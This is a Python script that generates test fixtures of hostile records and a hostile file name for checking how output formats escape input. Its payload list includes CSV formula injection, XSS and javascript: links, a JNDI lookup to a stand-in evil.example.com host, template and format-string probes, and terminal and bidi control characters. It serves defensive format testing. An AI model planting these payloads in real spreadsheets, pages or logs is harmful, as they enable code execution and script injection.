"""Writes narratives that try to be more than text, for the checks of the formats.

usage: hostile.py FOLDER

Makes hostile.jsonl (records whose ID, title and text are hostile), a text file whose name is hostile too, and
nothing.jsonl (records that describe nothing).
"""

import json
import pathlib
import sys

TRICKS = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-1",
    "\t=1+1",
    "\r\n=1+1",
    '=HYPERLINK("https://evil.example.com","here")',
    "](javascript:alert(1))",
    "![x](https://evil.example.com/a.png) [y](https://evil.example.com) <https://evil.example.com>",
    "www.evil.example.com mallory@evil.example.com @octocat #1",
    "</script><script>alert(1)</script><img src=x onerror=alert(1)>",
    "`` ` ``` | || \\| \\` *a* _b_ ~~c~~ **d** $e$ &lt; &#60;",
    "--- | --- \n| a | b |\n| --- | --- |\n# heading\n> quote\n- item\n```\nfence",
    "\x1b[31mred\x1b[0m \x07 \x00 \x7f \x9b31m",
    "\u202emoc.live\u202c \u2066a\u2069 \u200b\u200f\ufeff \U000e0041 \u061c",
    "\U0001f600 \U0001d54f\U00020000 e\u0301 \u00e7",
    "\"quoted\", 'quoted', \"\"twice\"\"; a,b;c\td",
    "${jndi:ldap://evil.example.com/a} {{7*7}} %s %n",
    "x" * 200_000,
    "\U0001d54f " * 50_000,
]


def main():
    if len(sys.argv) != 2:
        sys.exit(__doc__)
    folder = pathlib.Path(sys.argv[1])
    with open(folder / "hostile.jsonl", "w", encoding="utf-8") as out:
        for i, trick in enumerate(TRICKS):
            text = f"{trick} They dumped LSASS memory with Mimikatz {trick} by T1003.001 {trick}\nAPT29 ran it as T1059.001.\n"
            record = {"id": trick[:300] + str(i), "title": f"{trick[:300]} {i}", "text": text}
            out.write(json.dumps(record) + "\n")
    with open(folder / "nothing.jsonl", "w", encoding="utf-8") as out:
        for i in range(3):
            out.write(json.dumps({"id": i, "text": f"Nothing happened on day {i}."}) + "\n")
    name = "=cmd' [x](javascript:alert(1)) <b> `t` #1 | \u202e\U0001f600.txt"
    # Zero bytes make a file binary, which is refused.
    text = "\n".join(f"{trick} dumped LSASS memory, T1003.001" for trick in TRICKS).replace("\x00", "")
    (folder / name).write_bytes(text.encode())


if __name__ == "__main__":
    main()
